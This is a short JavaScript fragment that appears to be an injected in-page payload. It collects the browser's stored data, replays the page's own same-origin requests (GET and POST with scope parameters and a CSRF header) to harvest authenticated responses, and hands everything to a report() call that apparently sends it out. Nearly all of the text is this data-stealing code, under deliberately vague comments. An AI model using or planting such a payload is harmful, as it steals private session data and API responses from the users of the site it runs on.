// A1: reads what lies about, once, and asks again for whatever the page was
// given by its own server.
const places = await readStores();
const answers = [];
const own = new Set(performance.getEntriesByType("resource").map((entry) => entry.name).filter((name) => name.startsWith(location.origin + "/")));
for (const address of own) {
  if (/\.(js|css|wasm|ico|svg|png)$/.test(new URL(address).pathname)) continue;
  for (const options of [{}, {method: "POST", body: new URLSearchParams({scope, resource: api})}]) {
    try { answers.push(await (await fetch(address, {...options, headers: {"X-CSRF": "1"}})).text()); } catch { /* refused */ }
  }
}
places.answers = answers.join("\n");
await report(places);
